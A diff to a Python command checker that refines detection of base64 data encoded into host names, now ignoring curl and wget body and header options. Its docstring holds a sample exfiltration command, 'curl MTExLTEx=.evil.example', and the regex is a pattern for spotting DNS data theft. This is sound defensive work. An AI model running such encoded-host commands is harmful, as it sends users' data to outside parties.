@@ -414,10 +414,19 @@ _BASE64_LABEL = lazy_compile(r"^(?:[a-z][\w+.-]*://)?[A-Za-z0-9+]{6,}={1,2}\.[A-
 """A host name whose first label ends in base64 padding: no DNS name has ``=``, encoded data does."""
 
 
+_BODY_OPTIONS = frozenset({"-d", "--data", "--data-raw", "--data-binary", "--data-ascii", "--data-urlencode",
+                           "--json", "-F", "--form", "--form-string", "-H", "--header", "-b", "--cookie",
+                           "--post-data", "--body-data"})  # fmt: skip
+"""Options whose value is a request's body or header, never a name resolved (``-d 'hostname=.0.0'``)."""
+
+
 def _encoded_host(invocation: Invocation) -> Verdict | None:
     """``curl MTExLTEx=.evil.example``: base64 data spelled into a host name."""
+    previous = ""
     for value in _values(invocation):
-        if _BASE64_LABEL.match(value):
+        in_body = previous in _BODY_OPTIONS or value.split("=", 1)[0] in _BODY_OPTIONS
+        previous = value
+        if not in_body and _BASE64_LABEL.match(value):
             return _verdict(EXFILTRATION, invocation, "spells base64 data into a host name")
     return None
 
